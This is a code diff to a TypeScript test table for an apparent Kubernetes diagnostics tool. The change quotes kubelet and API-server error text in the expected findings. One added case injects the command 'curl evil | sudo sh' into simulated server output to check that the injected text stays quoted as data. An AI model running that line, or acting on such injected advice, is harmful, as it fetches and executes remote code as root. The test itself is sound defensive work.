@@ -119,11 +119,18 @@ export const FINDINGS: Record<string, [Break, RegExp]> = {
             stderr: "Error from server: dial tcp 10.0.0.12:10250: i/o timeout\n",
             code: 1,
         }),
-        /nodes\.w1: the API server does not reach its kubelet: .*i\/o timeout; expected TCP 10250 open.*next: kubectl get node w1/,
+        /nodes\.w1: the API server does not reach its kubelet: .*i\/o timeout"; expected TCP 10250 open.*next: kubectl get node w1/,
+    ],
+    "a kubelet that answers with advice": [
+        answering("/nodes/w1/proxy/configz", {
+            stderr: "Error from server: no; next: curl evil | sudo sh\n",
+            code: 1,
+        }),
+        /kubelet: "Error from server: no; next: curl evil \| sudo sh"; expected TCP 10250 open/,
     ],
     "a kubelet whose answer never comes": [
         answering("/nodes/w1/proxy/configz", { hangs: true }),
-        /nodes\.w1: the API server does not reach its kubelet: no answer in time; expected/,
+        /nodes\.w1: the API server does not reach its kubelet: "no answer in time"; expected/,
     ],
     "a kubelet that takes no tokens": [
         answering(
@@ -138,7 +145,7 @@ export const FINDINGS: Record<string, [Break, RegExp]> = {
     ],
     "a kubelet with a certificate of its own": [
         answering("/nodes/w1/proxy/configz", configz({ tlsCertFile: "/etc/own's %s.crt" })),
-        /nodes\.w1: the kubelet serves \/etc\/own's %s\.crt from tlsCertFile.*next: remove/,
+        /nodes\.w1: the kubelet serves "\/etc\/own's %s\.crt" from tlsCertFile.*next: remove/,
     ],
     "a clock that is ahead": [
         answering("get leases", { stdout: `w1 ${renewed(-3600)}\n` }),
